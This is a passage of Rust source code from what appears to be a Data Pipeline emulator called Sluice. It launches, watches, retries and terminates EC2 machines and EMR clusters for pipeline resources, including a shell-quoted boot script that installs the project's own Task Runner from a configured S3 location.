//! `Ec2Resource` instances (reference §2.5, §3.4, §3.7): a machine is launched once work
//! that runs on the resource is ready (not before: an idle machine costs money), watched
//! while it boots and runs, and terminated when that work has ended or at
//! `terminateAfter`. Spot launches that find no capacity are retried with backoff, the last
//! one on demand with `useOnDemandOnLastAttempt`; a spot machine EC2 takes back is replaced
//! without anyone stepping in, and the tasks it was running are taken back for the
//! replacement's runner.
//!
//! A resource instance goes WAITING_ON_DEPENDENCIES → CREATING (an attempt asks for a
//! machine) → ACTIVATING (launched, booting) → RUNNING → SHUTTING_DOWN → FINISHED, or
//! TIMEDOUT, or FAILED when its launches are spent. Each step is one conditional write;
//! the launch itself is idempotent through a token derived from the attempt, looked up
//! before every launch.

use std::sync::Arc;

use chrono::{NaiveDateTime, TimeDelta};

use super::{
    Engine, EngineError, Event, Status, StepReport, apply,
    compiled::{CompiledPipeline, ComponentSpec, after},
};
use crate::{
    cloud::{
        compute::{
            ClusterLaunch, Compute, ComputeError, Launch, Machine, MachineSpec, MachineState, Market, PIPELINE_TAG,
            WORKER_GROUP_TAG,
        },
        probe::Probe,
    },
    definition::context::Runtime,
    schedule::{Period, instance_id},
    store::{
        Key, RunStore, Write, keys,
        records::{
            self, AttemptKind, AttemptRecord, ErrorDetails, EventKind, InstanceRecord, MachineRecord, PipelineRecord,
            Stored, create,
        },
    },
    time::{add_or_max, format_datetime},
};

/// Instances of work on a resource, each with its current attempt.
type OpenWork = Vec<(Stored<InstanceRecord>, Option<Stored<AttemptRecord>>)>;

/// The work on a resource that has not ended.
const OPEN_WORK: &[Status] = &[Status::WaitingForRunner, Status::Running];

/// How soon a booting machine is looked at again.
const BOOT_CHECK: TimeDelta = TimeDelta::seconds(15);
/// How soon EC2 is asked again after it failed for now (throttling, an outage).
const EC2_AGAIN: TimeDelta = TimeDelta::seconds(30);

/// What a machine needs to become a runner, from Sluice's deployment.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Boot {
    /// Where machines download the `sluice` binary from (`s3://...`).
    pub runner_binary_uri: Option<String>,
    /// The Data Pipeline endpoint their runners poll (the API function's URL).
    pub api_url: Option<String>,
    /// The image of an `Ec2Resource` that names none (AWS picked one per region).
    pub default_image_id: Option<String>,
    /// The instance type of an `Ec2Resource` that names none (AWS's m1.small is gone).
    pub default_instance_type: String,
    /// Whether machines get their `resourceRole` as instance profile. An emulator without
    /// IAM roles refuses launches that name one, so `sluice dev` leaves it out there.
    pub instance_profiles: bool,
}

impl Default for Boot {
    fn default() -> Self {
        Self {
            runner_binary_uri: None,
            api_url: None,
            default_image_id: None,
            default_instance_type: "t3.small".to_owned(),
            instance_profiles: true,
        }
    }
}

/// Whether a resource's machine is wanted, from the work that runs on it.
pub(crate) enum Wanted {
    /// Some of its work is ready: launch.
    Now,
    /// All of its work has ended without it: no machine is needed.
    Never,
    /// Its work still waits on something else.
    Later(Vec<String>),
    /// Work on it failed, and its actionOnTaskFailure is terminate.
    TaskFailed(String),
}

/// The fields of an object, evaluated for one of its instances.
pub(crate) struct Fields(pub(crate) Vec<(String, String)>);

impl Fields {
    pub(crate) fn first(&self, key: &str) -> Option<&str> {
        self.0
            .iter()
            .find(|(name, value)| name == key && !value.trim().is_empty())
            .map(|(_, value)| value.trim())
    }

    /// Every value of a field that may repeat, each whole.
    pub(crate) fn values(&self, key: &str) -> Vec<String> {
        self.0
            .iter()
            .filter(|(name, value)| name == key && !value.trim().is_empty())
            .map(|(_, value)| value.trim().to_owned())
            .collect()
    }

    /// Every value of a field, each split at its commas (lists of ids).
    pub(crate) fn all(&self, key: &str) -> Vec<String> {
        self.0
            .iter()
            .filter(|(name, value)| name == key && !value.trim().is_empty())
            .flat_map(|(_, value)| value.split(',').map(|part| part.trim().to_owned()))
            .filter(|part| !part.is_empty())
            .collect()
    }

    fn flag(&self, key: &str) -> bool {
        self.first(key).is_some_and(|value| value.eq_ignore_ascii_case("true"))
    }

    fn period(&self, key: &str) -> Option<Period> {
        self.first(key).and_then(|value| value.parse().ok())
    }

    /// `terminateAfter`: a period, or (as the EmrCluster page types it) a number of hours.
    fn terminate_after(&self) -> Option<Period> {
        let value = self.first("terminateAfter")?;
        match value.parse::<u32>() {
            Ok(hours) => format!("{hours} hours").parse().ok(),
            Err(_) => value.parse().ok(),
        }
    }

    /// actionOnTaskFailure: `terminate` ends the resource when a task on it fails.
    fn terminate_on_task_failure(&self) -> bool {
        self.first("actionOnTaskFailure")
            .is_some_and(|action| action.eq_ignore_ascii_case("terminate"))
    }
}

/// The launch token of an attempt: EC2 allows 64 characters, and the same attempt must
/// always give the same token.
pub fn launch_token(attempt: &AttemptRecord) -> String {
    format!(
        "sluice-{:016x}",
        keys::fnv1a(&format!("{}/{}", attempt.pipeline_id, attempt.id()))
    )
}

/// The boot script: fetch `sluice` and run it as the Task Runner of exactly this
/// resource instance's worker group.
pub fn user_data(boot: &Boot, worker_group: &str) -> Result<String, String> {
    let binary = boot.runner_binary_uri.as_deref().ok_or(
        "Sluice's deployment names no runner binary for machines (SLUICE_RUNNER_BINARY_URI), so an Ec2Resource \
         cannot get a Task Runner",
    )?;
    let api = boot.api_url.as_deref().ok_or(
        "Sluice's deployment names no API address for machines' runners (SLUICE_API_URL), so an Ec2Resource's \
         runner would have nothing to poll",
    )?;
    let worker_group = shell_word(worker_group);
    Ok(format!(
        "#!/bin/bash\n\
         # Sluice: the Task Runner of {worker_group}\n\
         set -eu\n\
         aws s3 cp {} /usr/local/bin/sluice\n\
         chmod +x /usr/local/bin/sluice\n\
         exec /usr/local/bin/sluice runner --worker-group {worker_group} --endpoint {} --hostname \"$(hostname)\"\n",
        shell_word(binary),
        shell_word(api),
    ))
}

/// `text` as one word of a shell script: without control characters (a newline would end
/// the script's line, even a comment's), single-quoted, each `'` written `'\''`.
fn shell_word(text: &str) -> String {
    let printable: String = text.chars().filter(|character| !character.is_control()).collect();
    format!("'{}'", printable.replace('\'', r"'\''"))
}

/// Whether attempt `number_in_run` (1 for the first) may still ask for spot capacity: not
/// on the last one with `useOnDemandOnLastAttempt`, nor after the spot failures the
/// Sluice extension `onDemandAfterSpotFailures` allows.
pub(crate) fn market_allows_spot(fields: &Fields, spec: &ComponentSpec, number_in_run: u32) -> bool {
    let last = !spec.retry.retries_after(number_in_run);
    if last && fields.flag("useOnDemandOnLastAttempt") {
        return false;
    }
    let spot_failures = number_in_run.saturating_sub(1);
    let give_up_after = fields
        .first("onDemandAfterSpotFailures")
        .and_then(|count| count.parse::<u32>().ok());
    give_up_after.is_none_or(|count| spot_failures < count)
}

/// On demand or spot for the machine of attempt `number_in_run`.
fn market(fields: &Fields, spec: &ComponentSpec, number_in_run: u32) -> Market {
    let bid = fields.first("spotBidPrice").map(str::to_owned);
    let spot = bid.is_some()
        || fields
            .first("marketType")
            .is_some_and(|market| market.eq_ignore_ascii_case("spot"));
    if spot && market_allows_spot(fields, spec, number_in_run) {
        Market::Spot { max_price: bid }
    } else {
        Market::OnDemand
    }
}

/// What a resource attempt launches: a machine or a cluster.
enum LaunchRequest {
    Machine(Box<Launch>),
    Cluster(Box<ClusterLaunch>),
}

impl LaunchRequest {
    fn is_spot(&self) -> bool {
        match self {
            Self::Machine(launch) => launch.spec.market.is_spot(),
            Self::Cluster(launch) => launch.spec.any_spot(),
        }
    }
}

fn is_cluster(spec: &ComponentSpec) -> bool {
    spec.type_name == "EmrCluster"
}

fn failure(code: &str, message: String) -> ErrorDetails {
    ErrorDetails {
        error_id: Some(code.to_owned()),
        error_message: Some(message),
        error_stack_trace: None,
    }
}

impl<S: RunStore, P: Probe> Engine<'_, S, P> {
    /// Whether the resource instance at `start` is wanted now, from the instances of the
    /// work that runs on it (read in one request). With `stop_on_task_failure`
    /// (actionOnTaskFailure terminate), a failed one ends it.
    pub(crate) async fn resource_wanted(
        &self,
        compiled: &CompiledPipeline,
        spec: &ComponentSpec,
        start: NaiveDateTime,
        stop_on_task_failure: bool,
    ) -> Result<Wanted, EngineError> {
        let dependants = compiled.resource_dependants(spec, start);
        if dependants.is_empty() {
            return Ok(Wanted::Never);
        }
        let wanted: Vec<Key> = dependants
            .iter()
            .map(|(component, start)| keys::instance(&compiled.pipeline_id, component, *start))
            .collect();
        let found = self.store.get_many(&wanted).await?;
        let mut reasons = Vec::new();
        let mut ended = 0;
        let mut ready = false;
        for ((component, start), item) in dependants.iter().zip(found) {
            let id = instance_id(component, *start);
            match records::decode::<InstanceRecord>(item.as_ref())?.map(|stored| stored.record) {
                Some(instance) if stop_on_task_failure && instance.status == Status::Failed => {
                    return Ok(Wanted::TaskFailed(id));
                }
                Some(instance) if instance.status == Status::WaitingForRunner => ready = true,
                Some(instance) if instance.status.is_terminal() => ended += 1,
                Some(instance) => reasons.push(format!(
                    "work that runs on it to be ready: {id}, which is {}",
                    instance.status
                )),
                None => reasons.push(format!("work that runs on it to be ready: {id}, not created yet")),
            }
        }
        Ok(if ready {
            Wanted::Now
        } else if ended == dependants.len() {
            Wanted::Never
        } else {
            Wanted::Later(reasons)
        })
    }

    /// The resource instance moves to CREATING with a new attempt that asks for a machine.
    pub(crate) fn launch_resource(
        &self,
        next: &mut InstanceRecord,
        worker_group: String,
        writes: &mut Vec<Write>,
    ) -> Result<(), EngineError> {
        let now = self.now();
        next.status = apply(next.status, Event::Launch)?;
        next.attempts += 1;
        next.worker_group = Some(worker_group.clone());
        next.waiting_on = vec!["its machine, being launched".to_owned()];
        next.next_check_at = None;
        next.started_at = next.started_at.or(Some(now));
        let mut attempt = AttemptRecord::waiting(next, next.attempts, AttemptKind::Resource, worker_group, now);
        attempt.status = Status::Creating;
        attempt.check_at = Some(now);
        writes.push(create(&attempt)?);
        Ok(())
    }

    /// The resource instance's machine is looked at now rather than at its next check:
    /// work on it has ended, and it may be shut down (a machine costs by the second).
    pub(crate) async fn nudge_resource(
        &self,
        pipeline_id: &str,
        resource_id: &str,
        start: NaiveDateTime,
        report: &mut StepReport,
    ) -> Result<(), EngineError> {
        let Some(instance) =
            records::get::<InstanceRecord, _>(self.store, &keys::instance(pipeline_id, resource_id, start)).await?
        else {
            return Ok(());
        };
        if !matches!(instance.record.status, Status::Running | Status::Activating) {
            return Ok(());
        }
        let key = keys::attempt(pipeline_id, resource_id, start, instance.record.attempts);
        let Some(attempt) = records::get::<AttemptRecord, _>(self.store, &key).await? else {
            return Ok(());
        };
        let now = self.now();
        if attempt.record.kind != AttemptKind::Resource
            || attempt.record.status.is_terminal()
            || attempt.record.check_at.is_some_and(|at| at <= now)
        {
            return Ok(());
        }
        self.look_again(attempt, now, report).await
    }

    /// How soon a booting or stopping machine is looked at again: 15 s, or sooner where
    /// everything looks again sooner (`sluice dev`).
    fn boot_check(&self) -> TimeDelta {
        BOOT_CHECK.min(self.limits.recheck)
    }

    /// Nothing is left running: every machine tagged as Sluice's whose records say it
    /// should not exist (its pipeline or instance gone, its instance ended, or launched for
    /// an attempt that is not the current one) is terminated. A machine launched for the
    /// current attempt but not yet recorded is kept: the launch step adopts it.
    pub async fn sweep_step<C: Compute>(&self, compute: &C) -> Result<StepReport, EngineError> {
        let mut report = StepReport::default();
        let machines = match compute.alive_tagged().await {
            Ok(machines) => machines,
            Err(error) => {
                report
                    .problems
                    .push(format!("the machine sweep could not list machines: {error}"));
                return Ok(report);
            }
        };
        for tagged in machines {
            // Only machines that name what they serve are Sluice's to judge.
            let Some(group) = tagged.worker_group.as_deref() else {
                continue;
            };
            let Some((pipeline_id, instance_id)) = crate::schedule::parse_resource_worker_group(group) else {
                continue;
            };
            let Ok((component, start)) = super::operator::parse_instance_id(instance_id) else {
                continue;
            };
            report.examined += 1;
            let instance =
                records::get::<InstanceRecord, _>(self.store, &keys::instance(pipeline_id, &component, start)).await?;
            let why = match instance {
                None => Some(format!("{instance_id} of {pipeline_id} is not in the run table")),
                Some(instance) if instance.record.status.is_terminal() => {
                    Some(format!("{instance_id} has ended ({})", instance.record.status))
                }
                Some(instance) => {
                    let key = keys::attempt(pipeline_id, &component, start, instance.record.attempts);
                    match records::get::<AttemptRecord, _>(self.store, &key).await? {
                        // The attempt's own machine; or, before one is on record, what it
                        // launched (the launch step adopts it).
                        Some(attempt)
                            if match &attempt.record.machine {
                                Some(machine) => machine.id == tagged.machine.id,
                                None => tagged.token.as_deref() == Some(launch_token(&attempt.record).as_str()),
                            } =>
                        {
                            None
                        }
                        Some(attempt) if tagged.token.as_deref() == Some(launch_token(&attempt.record).as_str()) => {
                            Some(format!(
                                "a second launch for the current attempt of {instance_id} (two stages launched at \
                                 once), which runs on the one on record"
                            ))
                        }
                        _ => Some(format!(
                            "it was launched for an earlier attempt of {instance_id}, not the current one"
                        )),
                    }
                }
            };
            let Some(why) = why else { continue };
            match compute.terminate(&tagged.machine.id).await {
                Ok(()) => {
                    report.changed += 1;
                    report
                        .problems
                        .push(format!("terminated machine {}: {why}", tagged.machine.id));
                }
                Err(error) => report.problems.push(format!(
                    "machine {} should not exist ({why}) but could not be terminated: {error}",
                    tagged.machine.id
                )),
            }
        }
        Ok(report)
    }

    /// One pass over the resource attempts due for a look: launch, watch, shut down.
    pub async fn resources_step<C: Compute>(&self, compute: &C, boot: &Boot) -> Result<StepReport, EngineError> {
        let mut report = StepReport::default();
        for item in self.due_items(keys::stages::RESOURCES).await? {
            let outcome = match Stored::from_item(&item) {
                Ok(attempt) => self.look_at_resource(compute, boot, attempt, &mut report).await,
                Err(error) => Err(error.into()),
            };
            self.confine(keys::stages::RESOURCES, &item, outcome, &mut report).await;
        }
        Ok(report)
    }

    /// Launches, watches or shuts down one resource attempt's machine.
    async fn look_at_resource<C: Compute>(
        &self,
        compute: &C,
        boot: &Boot,
        attempt: Stored<AttemptRecord>,
        report: &mut StepReport,
    ) -> Result<(), EngineError> {
        if attempt.record.kind != AttemptKind::Resource || attempt.record.status.is_terminal() {
            return Ok(());
        }
        report.examined += 1;
        let instance_key = keys::instance(
            &attempt.record.pipeline_id,
            &attempt.record.component_id,
            attempt.record.scheduled_start,
        );
        let [instance, pipeline] =
            records::get_each(self.store, [instance_key, keys::pipeline(&attempt.record.pipeline_id)]).await?;
        let (Some(instance), Some(pipeline)) = (
            records::decode::<InstanceRecord>(instance.as_ref())?,
            records::decode::<PipelineRecord>(pipeline.as_ref())?,
        ) else {
            // Its pipeline or instance is gone: so must its machine be.
            return self.give_back_orphan(compute, attempt, report).await;
        };
        let compiled = self.compiled(&pipeline.record).await?;
        let Some(spec) = compiled.component(&attempt.record.component_id).cloned() else {
            return self.give_back_orphan(compute, attempt, report).await;
        };
        self.tend(compute, boot, &compiled, &spec, attempt, instance, report)
            .await
    }

    #[allow(clippy::too_many_arguments)]
    async fn tend<C: Compute>(
        &self,
        compute: &C,
        boot: &Boot,
        compiled: &CompiledPipeline,
        spec: &ComponentSpec,
        attempt: Stored<AttemptRecord>,
        instance: Stored<InstanceRecord>,
        report: &mut StepReport,
    ) -> Result<(), EngineError> {
        let now = self.now();
        if instance.record.status != attempt.record.status {
            // A rerun, a cancel or a mark-finished moved the instance on: the machine goes.
            return self.give_back_orphan(compute, attempt, report).await;
        }
        let runtime = Runtime::scheduled(instance.record.scheduled_start, Some(instance.record.scheduled_end));
        let fields = Fields(compiled.evaluated_fields(&spec.id, &runtime, None));
        // terminateAfter runs from the launch, whatever the machine is doing.
        if let (Some(machine), Some(limit)) = (&attempt.record.machine, fields.terminate_after())
            && now >= after(machine.launched_at, limit)
        {
            return self.time_out(compute, spec, attempt, instance, limit, report).await;
        }
        match (attempt.record.status, attempt.record.machine.clone()) {
            (Status::Creating, _) => {
                self.launch(compute, boot, compiled, spec, &fields, attempt, instance, report)
                    .await
            }
            (Status::Activating, Some(machine)) => {
                let state = match compute.state(&machine.id).await {
                    Ok(state) => state,
                    Err(error) => return self.ec2_later(attempt, error, report).await,
                };
                match state {
                    // Its work may have ended while it booted (a stand-in ran it, or it
                    // was canceled): then it goes at once.
                    MachineState::Running => match self
                        .resource_wanted(compiled, spec, instance.record.scheduled_start, false)
                        .await?
                    {
                        Wanted::Never => self.shut_down(compute, spec, attempt, instance, &machine, report).await,
                        _ => {
                            let resource = attempt.record.clone();
                            self.booted(attempt, instance, report).await?;
                            if is_cluster(spec) {
                                self.run_steps(compute, &fields, &resource, &machine, report).await?;
                            }
                            Ok(())
                        }
                    },
                    state if state.is_gone() => {
                        let why = gone_message(&machine, &state);
                        self.resource_failed(compute, spec, &fields, attempt, instance, why, report)
                            .await
                    }
                    _ => {
                        let init_timeout = fields.period("initTimeout");
                        if let Some(limit) = init_timeout
                            && now >= after(machine.launched_at, limit)
                        {
                            let _ = compute.terminate(&machine.id).await;
                            let why = failure(
                                "Sluice.InitTimeout",
                                format!(
                                    "machine {} did not start within initTimeout ({limit}); it was terminated",
                                    machine.id
                                ),
                            );
                            return self
                                .resource_failed(compute, spec, &fields, attempt, instance, why, report)
                                .await;
                        }
                        self.look_again(attempt, add_or_max(now, self.boot_check()), report)
                            .await
                    }
                }
            }
            (Status::Running, Some(machine)) => {
                let state = match compute.state(&machine.id).await {
                    Ok(state) => state,
                    Err(error) => return self.ec2_later(attempt, error, report).await,
                };
                if state.is_gone() {
                    let why = gone_message(&machine, &state);
                    return self
                        .resource_failed(compute, spec, &fields, attempt, instance, why, report)
                        .await;
                }
                if is_cluster(spec) {
                    // The cluster's Task Runner: steps followed, ready tasks submitted.
                    self.run_steps(compute, &fields, &attempt.record, &machine, report)
                        .await?;
                }
                let stop_on_task_failure = fields.terminate_on_task_failure();
                match self
                    .resource_wanted(compiled, spec, instance.record.scheduled_start, stop_on_task_failure)
                    .await?
                {
                    Wanted::Never => self.shut_down(compute, spec, attempt, instance, &machine, report).await,
                    Wanted::TaskFailed(failed) => {
                        if let Err(error) = compute.terminate(&machine.id).await {
                            return self.ec2_later(attempt, error, report).await;
                        }
                        let why = failure(
                            "Sluice.TaskFailed",
                            format!(
                                "{failed} failed on it and its actionOnTaskFailure is terminate: {} was terminated",
                                machine.id
                            ),
                        );
                        self.resource_failed_for_good(spec, attempt, instance, why, report)
                            .await
                    }
                    _ => {
                        self.look_again(attempt, add_or_max(now, self.limits.recheck), report)
                            .await
                    }
                }
            }
            (Status::ShuttingDown, Some(machine)) => {
                match compute.state(&machine.id).await {
                    Ok(state) if state.is_gone() => {
                        let from = attempt.record.status;
                        self.finished(spec, attempt, instance, from, report).await
                    }
                    Ok(_) => {
                        // Ask again: terminating is idempotent.
                        if let Err(error) = compute.terminate(&machine.id).await {
                            return self.ec2_later(attempt, error, report).await;
                        }
                        self.look_again(attempt, add_or_max(now, self.boot_check()), report)
                            .await
                    }
                    Err(error) => self.ec2_later(attempt, error, report).await,
                }
            }
            // A record without its machine past CREATING cannot be watched: fail it, so
            // that a new attempt looks the token up again.
            (_, None) => {
                let why = failure(
                    "Sluice.MachineUnknown",
                    "the attempt has no machine on record past CREATING".to_owned(),
                );
                self.resource_failed(compute, spec, &fields, attempt, instance, why, report)
                    .await
            }
            (_, Some(_)) => Ok(()),
        }
    }

    /// CREATING: find the machine this attempt launched before (a crash after RunInstances)
    /// or launch it.
    #[allow(clippy::too_many_arguments)]
    async fn launch<C: Compute>(
        &self,
        compute: &C,
        boot: &Boot,
        compiled: &CompiledPipeline,
        spec: &ComponentSpec,
        fields: &Fields,
        attempt: Stored<AttemptRecord>,
        instance: Stored<InstanceRecord>,
        report: &mut StepReport,
    ) -> Result<(), EngineError> {
        let now = self.now();
        let token = launch_token(&attempt.record);
        let region = fields.first("region");
        let found = if is_cluster(spec) {
            compute.find_cluster(&token, region).await
        } else {
            compute.find(&token, region).await
        };
        let found = match found {
            Ok(found) => found,
            Err(error) => return self.ec2_later(attempt, error, report).await,
        };
        let machine = match found {
            Some(machine) => machine,
            // A retry whose work has all ended meanwhile (failed with the lost machine,
            // canceled) needs no machine.
            None if matches!(
                self.resource_wanted(compiled, spec, instance.record.scheduled_start, false)
                    .await?,
                Wanted::Never
            ) =>
            {
                let from = apply(attempt.record.status, Event::WorkDone)?;
                return self.finished(spec, attempt, instance, from, report).await;
            }
            None => {
                let number_in_run = attempt.record.number.saturating_sub(instance.record.run_first_attempt) + 1;
                let launch = match self.launch_request(
                    boot,
                    compiled,
                    spec,
                    fields,
                    &attempt.record,
                    &instance.record,
                    number_in_run,
                ) {
                    Ok(launch) => launch,
                    Err(problem) => {
                        let why = failure("Sluice.ResourceMisconfigured", problem);
                        return self
                            .resource_failed_for_good(spec, attempt, instance, why, report)
                            .await;
                    }
                };
                let launched = match &launch {
                    LaunchRequest::Machine(machine) => compute.launch(machine).await,
                    LaunchRequest::Cluster(cluster) => compute.launch_cluster(cluster).await,
                };
                match launched {
                    Ok(machine) => machine,
                    Err(error @ ComputeError::Capacity { .. }) => {
                        let market = if launch.is_spot() { "spot" } else { "on-demand" };
                        let why = failure(error.code(), format!("no {market} capacity: {error}"));
                        return self
                            .resource_failed(compute, spec, fields, attempt, instance, why, report)
                            .await;
                    }
                    Err(error @ ComputeError::Refused { .. }) => {
                        let why = failure(error.code(), error.to_string());
                        return self
                            .resource_failed_for_good(spec, attempt, instance, why, report)
                            .await;
                    }
                    Err(error) => return self.ec2_later(attempt, error, report).await,
                }
            }
        };
        let running = machine.state == MachineState::Running;
        let resource = attempt.record.clone();
        let key = records::Record::key(&attempt.record);
        let launched_id = machine.id.clone();
        match self.launched(attempt, instance, machine, now, report).await? {
            Some(record) if running && is_cluster(spec) => {
                self.run_steps(compute, fields, &resource, &record, report).await?;
            }
            Some(_) => {}
            // Another stage recorded this attempt's launch first: where that was another
            // machine (EMR has no client token; moto ignores EC2's), this one goes.
            None => {
                let recorded = records::get::<AttemptRecord, _>(self.store, &key).await?;
                let ours = recorded
                    .as_ref()
                    .and_then(|stored| stored.record.machine.as_ref())
                    .is_some_and(|machine| machine.id == launched_id);
                if !ours {
                    let _ = compute.terminate(&launched_id).await;
                    report
                        .problems
                        .push(format!("{}: terminated {launched_id}, launched twice", resource.id()));
                }
            }
        }
        Ok(())
    }

    #[allow(clippy::too_many_arguments)]
    fn launch_request(
        &self,
        boot: &Boot,
        compiled: &CompiledPipeline,
        spec: &ComponentSpec,
        fields: &Fields,
        attempt: &AttemptRecord,
        instance: &InstanceRecord,
        number_in_run: u32,
    ) -> Result<LaunchRequest, String> {
        let tags = vec![
            (
                "Name".to_owned(),
                format!("sluice {} {}", attempt.pipeline_id, instance.id()),
            ),
            (PIPELINE_TAG.to_owned(), attempt.pipeline_id.clone()),
            (WORKER_GROUP_TAG.to_owned(), attempt.worker_group.clone()),
            ("sluice:component".to_owned(), attempt.component_id.clone()),
            ("sluice:instance".to_owned(), instance.id()),
        ];
        match spec.type_name.as_str() {
            "Ec2Resource" => {}
            "EmrCluster" => {
                let runtime = Runtime::scheduled(instance.scheduled_start, Some(instance.scheduled_end));
                return super::clusters::cluster_request(
                    compiled,
                    spec,
                    fields,
                    &runtime,
                    launch_token(attempt),
                    &attempt.worker_group,
                    tags,
                    number_in_run,
                )
                .map(|launch| LaunchRequest::Cluster(Box::new(launch)));
            }
            other => {
                return Err(format!(
                    "{other} is not a resource Sluice can launch (Ec2Resource, EmrCluster)"
                ));
            }
        }
        let image_id = fields
            .first("imageId")
            .map(str::to_owned)
            .or_else(|| boot.default_image_id.clone())
            .ok_or_else(|| {
                format!(
                    "\"{}\" names no imageId and Sluice's deployment has no default image (SLUICE_DEFAULT_IMAGE_ID)",
                    spec.id
                )
            })?;
        let associate = fields
            .first("associatePublicIpAddress")
            .map(|value| value.eq_ignore_ascii_case("true"));
        let machine = MachineSpec {
            instance_type: fields
                .first("instanceType")
                .map_or_else(|| boot.default_instance_type.clone(), str::to_owned),
            image_id,
            subnet_id: fields.first("subnetId").map(str::to_owned),
            security_group_ids: fields.all("securityGroupIds"),
            security_groups: fields.all("securityGroups"),
            key_pair: fields.first("keyPair").map(str::to_owned),
            associate_public_ip_address: associate,
            availability_zone: fields.first("availabilityZone").map(str::to_owned),
            region: fields.first("region").map(str::to_owned),
            instance_profile: fields
                .first("resourceRole")
                .filter(|_| boot.instance_profiles)
                .map(str::to_owned),
            user_data: user_data(boot, &attempt.worker_group)?,
            market: market(fields, spec, number_in_run),
        };
        Ok(LaunchRequest::Machine(Box::new(Launch {
            token: launch_token(attempt),
            spec: machine,
            tags,
        })))
    }

    async fn launched(
        &self,
        attempt: Stored<AttemptRecord>,
        instance: Stored<InstanceRecord>,
        machine: Machine,
        now: NaiveDateTime,
        report: &mut StepReport,
    ) -> Result<Option<MachineRecord>, EngineError> {
        let record = MachineRecord {
            id: machine.id.clone(),
            spot: machine.spot,
            launched_at: now,
        };
        let mut status = apply(attempt.record.status, Event::Launched)?;
        let running = machine.state == MachineState::Running;
        if running {
            status = apply(status, Event::Booted)?;
        }
        let market = if machine.spot { "spot" } else { "on-demand" };
        let waiting_on = if running {
            Vec::new()
        } else {
            vec![format!("its {market} machine {} to boot", machine.id)]
        };
        let next_attempt = AttemptRecord {
            status,
            machine: Some(record.clone()),
            hostname: Some(machine.id.clone()),
            claimed_at: Some(now),
            check_at: Some(if running {
                add_or_max(now, self.limits.recheck)
            } else {
                add_or_max(now, self.boot_check())
            }),
            ..attempt.record.clone()
        };
        let written = self
            .move_together(&attempt, &next_attempt, &instance, waiting_on, report)
            .await?;
        Ok(written.then_some(record))
    }

    /// The resource attempt and its instance move to the attempt's new status together.
    async fn move_together(
        &self,
        attempt: &Stored<AttemptRecord>,
        next_attempt: &AttemptRecord,
        instance: &Stored<InstanceRecord>,
        waiting_on: Vec<String>,
        report: &mut StepReport,
    ) -> Result<bool, EngineError> {
        let next_instance = InstanceRecord {
            status: next_attempt.status,
            waiting_on,
            ..instance.record.clone()
        };
        let writes = vec![attempt.replace(next_attempt)?, instance.replace(&next_instance)?];
        let written = self.store.transact(writes).await?;
        report.wrote(written);
        Ok(written)
    }

    async fn booted(
        &self,
        attempt: Stored<AttemptRecord>,
        instance: Stored<InstanceRecord>,
        report: &mut StepReport,
    ) -> Result<(), EngineError> {
        let now = self.now();
        let status = apply(attempt.record.status, Event::Booted)?;
        let next_attempt = AttemptRecord {
            status,
            check_at: Some(add_or_max(now, self.limits.recheck)),
            ..attempt.record.clone()
        };
        self.move_together(&attempt, &next_attempt, &instance, Vec::new(), report)
            .await
            .map(|_| ())
    }

    /// The resource's work has ended: terminate its machine (and, when EC2 says at once
    /// that it is gone, the resource has FINISHED).
    async fn shut_down<C: Compute>(
        &self,
        compute: &C,
        spec: &ComponentSpec,
        attempt: Stored<AttemptRecord>,
        instance: Stored<InstanceRecord>,
        machine: &MachineRecord,
        report: &mut StepReport,
    ) -> Result<(), EngineError> {
        let now = self.now();
        if let Err(error) = compute.terminate(&machine.id).await {
            return self.ec2_later(attempt, error, report).await;
        }
        let status = apply(attempt.record.status, Event::WorkDone)?;
        if compute.state(&machine.id).await.is_ok_and(|state| state.is_gone()) {
            return self.finished(spec, attempt, instance, status, report).await;
        }
        let next_attempt = AttemptRecord {
            status,
            check_at: Some(add_or_max(now, self.boot_check())),
            ..attempt.record.clone()
        };
        let waiting_on = vec![format!("its machine {} to terminate", machine.id)];
        self.move_together(&attempt, &next_attempt, &instance, waiting_on, report)
            .await
            .map(|_| ())
    }

    /// The machine is gone after its work: the resource has FINISHED. `from` is where it
    /// stands (SHUTTING_DOWN, perhaps only decided in this step).
    async fn finished(
        &self,
        spec: &ComponentSpec,
        attempt: Stored<AttemptRecord>,
        instance: Stored<InstanceRecord>,
        from: Status,
        report: &mut StepReport,
    ) -> Result<(), EngineError> {
        let now = self.now();
        let status = apply(from, Event::ShutDown)?;
        let next_attempt = AttemptRecord {
            status,
            ended_at: Some(now),
            check_at: None,
            ..attempt.record.clone()
        };
        let mut next = instance.record.clone();
        next.status = status;
        let mut writes = vec![attempt.replace(&next_attempt)?];
        self.end(&mut next, now, EventKind::Success, &spec.on_success, &mut writes)?;
        writes.push(instance.replace(&next)?);
        report.wrote(self.store.transact(writes).await?);
        Ok(())
    }

    /// terminateAfter passed: the machine is terminated and the resource is TIMEDOUT, with
    /// no further launch (reference §2.5).
    async fn time_out<C: Compute>(
        &self,
        compute: &C,
        spec: &ComponentSpec,
        attempt: Stored<AttemptRecord>,
        instance: Stored<InstanceRecord>,
        limit: Period,
        report: &mut StepReport,
    ) -> Result<(), EngineError> {
        let Some(machine) = attempt.record.machine.clone() else {
            return Ok(());
        };
        if let Err(error) = compute.terminate(&machine.id).await {
            return self.ec2_later(attempt, error, report).await;
        }
        let why = failure(
            "Sluice.TerminateAfter",
            format!(
                "machine {} ran for terminateAfter ({limit}) and was terminated",
                machine.id
            ),
        );
        self.end_in_failure(spec, attempt, instance, Event::TimedOut, why, report)
            .await
    }

    /// The machine could not be had or was lost: another attempt after the retry delay
    /// while retries remain (`actionOnResourceFailure` retryall), else FAILED. Tasks that
    /// were running on it are taken back for the next machine's runner.
    #[allow(clippy::too_many_arguments)]
    async fn resource_failed<C: Compute>(
        &self,
        compute: &C,
        spec: &ComponentSpec,
        fields: &Fields,
        attempt: Stored<AttemptRecord>,
        instance: Stored<InstanceRecord>,
        why: ErrorDetails,
        report: &mut StepReport,
    ) -> Result<(), EngineError> {
        if let Some(machine) = &attempt.record.machine {
            // Whatever is left of it must not run on unseen.
            let _ = compute.terminate(&machine.id).await;
        }
        let number_in_run = attempt.record.number.saturating_sub(instance.record.run_first_attempt) + 1;
        let retry = spec.retry.retries_after(number_in_run);
        if !retry {
            return self
                .resource_failed_for_good(spec, attempt, instance, why, report)
                .await;
        }
        let now = self.now();
        let ended = AttemptRecord {
            status: apply(attempt.record.status, Event::ResourceFailed { retry: false })?,
            ended_at: Some(now),
            check_at: None,
            error: why.clone(),
            ..attempt.record.clone()
        };
        let available_at = spec.retry.retry_at(now, number_in_run + 1, self.random);
